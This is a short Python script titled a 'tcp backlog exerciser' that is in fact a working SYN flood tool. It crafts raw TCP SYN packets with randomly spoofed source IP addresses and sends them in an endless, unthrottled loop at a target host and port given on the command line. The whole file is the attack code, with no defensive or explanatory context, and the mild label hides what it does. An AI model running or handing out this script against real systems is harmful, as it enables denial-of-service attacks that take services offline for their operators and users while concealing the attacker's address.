#!/usr/bin/env python3
# tcp backlog exerciser
import random, socket, struct, sys

def csum(b):
	if len(b) & 1:
		b += b"\0"
	s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
	s = (s >> 16) + (s & 0xffff)
	return ~(s + (s >> 16)) & 0xffff

def syn(src, dst, dport):
	sp = random.randint(1024, 65535)
	a, b = socket.inet_aton(src), socket.inet_aton(dst)
	t = struct.pack("!HHLLBBHHH", sp, dport, random.getrandbits(32), 0, 5 << 4, 2, 5840, 0, 0)
	c = csum(a + b + struct.pack("!BBH", 0, 6, len(t)) + t)
	t = t[:16] + struct.pack("!H", c) + t[18:]
	ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16), 0, 64, 6, 0, a, b)
	return ip + t

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
dst, port = sys.argv[1] if len(sys.argv) > 1 else "203.0.113.80", 443
while 1:
	s.sendto(syn("%d.%d.%d.%d" % tuple(random.randint(1, 254) for _ in range(4)), dst, port), (dst, 0))
